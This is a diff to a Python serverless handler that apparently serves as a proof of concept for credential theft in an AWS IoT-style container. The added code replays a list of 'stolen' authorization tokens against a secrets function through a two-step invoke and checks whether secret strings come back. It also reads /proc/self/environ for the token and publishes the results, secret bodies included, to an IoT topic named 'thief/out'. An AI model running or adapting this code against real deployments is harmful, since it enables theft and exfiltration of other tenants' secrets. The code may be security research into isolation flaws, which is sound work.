@@ -21,6 +21,13 @@ def _secret(token, secret_id):
                   headers={'Authorization': token, 'X-Amz-Invocation-Type': 'RequestResponse',
                            'X-Amz-Client-Context': ''})
         r = c.getresponse()
+        r.read()
+        inv = r.getheader('X-Amz-InvocationId')
+        if r.status // 100 != 2 or not inv:
+            return {'status': r.status, 'got_value': False, 'body': ''}
+        c.request('GET', '/2016-11-01/functions/' + SECRETS,
+                  headers={'Authorization': token, 'X-Amz-InvocationId': inv})
+        r = c.getresponse()
         body = r.read().decode('utf-8', 'replace')
         return {'status': r.status, 'got_value': 'SecretString' in body, 'body': body[:300]}
     except Exception as e:
@@ -81,7 +88,11 @@ def handler(event, context):
     r['own'] = _secret(os.environ.get('AWS_CONTAINER_AUTHORIZATION_TOKEN', ''), event['secret'])
     r['stolen'] = [_secret(t, event['secret']) for t in r['tokens']]
     r['own_token_in_env'] = bool(os.environ.get('AWS_CONTAINER_AUTHORIZATION_TOKEN'))
-    with open('/proc/self/environ', 'rb') as f:
-        r['own_token_in_proc_environ'] = b'AWS_CONTAINER_AUTHORIZATION_TOKEN' in f.read()
+    try:
+        with open('/proc/self/environ', 'rb') as f:  # non-dumpable: root-owned, 0400
+            has = b'AWS_CONTAINER_AUTHORIZATION_TOKEN' in f.read()
+        r['own_proc_environ'] = 'has token' if has else 'no token'
+    except OSError as e:
+        r['own_proc_environ'] = type(e).__name__
     iot.publish(topic=event.get('reply', 'thief/out'), payload=json.dumps(r))
     return r
